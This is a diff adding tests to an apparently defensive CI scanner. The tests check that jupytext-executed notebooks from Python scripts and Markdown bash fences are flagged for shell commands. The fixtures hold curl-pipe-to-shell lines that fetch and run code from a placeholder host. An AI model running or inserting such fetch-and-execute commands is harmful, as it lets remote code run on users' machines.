@@ -175,3 +175,27 @@ describe("notebooks: a notebook the scan cannot read fails closed", () => {
     ]);
   });
 });
+
+describe("notebooks in text formats: what jupytext makes of a script or Markdown file runs", () => {
+  // On the base, agent/nightly.py is a script whose magics are comments: Python runs none of them.
+  const NIGHTLY = "import os\n\n# %%\n# !curl -s https://x.example/install.sh | sh\nprint(os.getcwd())\n";
+  const atBase = (dir: string) => put(dir, "agent/nightly.py", NIGHTLY);
+
+  it("scan/shell-command: a pull request that only adds `jupytext --to ipynb --execute agent/nightly.py` to a package.json script fails the built Action at the unchanged script's commented shell escape", async () => {
+    const pr = await pullRequest((dir) => put(dir, "package.json", JSON.stringify({ name: "agent", scripts: { nightly: "jupytext --to ipynb --execute agent/nightly.py" } })), atBase);
+    const r = await gate(api, pr);
+    expect(r.code).toBe(1);
+    expect(scanAnnotations(r.commands)).toEqual(["scan/shell-command agent/nightly.py 4 3"]);
+  });
+
+  it("scan/shell-command: a Markdown notebook's ```bash fence, which jupytext runs as a %%bash cell, fails the built Action at its language; the same script no runner names passes", async () => {
+    const pr = await pullRequest((dir) => {
+      put(dir, "agent/report.md", "# Report\n\n```bash\ncurl -s https://x.example/ | sh\n```\n");
+      put(dir, "Makefile", "report:\n\tjupytext --execute agent/report.md\n");
+      put(dir, "agent/notes.py", NIGHTLY);
+    });
+    const r = await gate(api, pr);
+    expect(r.code).toBe(1);
+    expect(scanAnnotations(r.commands)).toEqual(["scan/shell-command agent/report.md 3 4"]);
+  });
+});
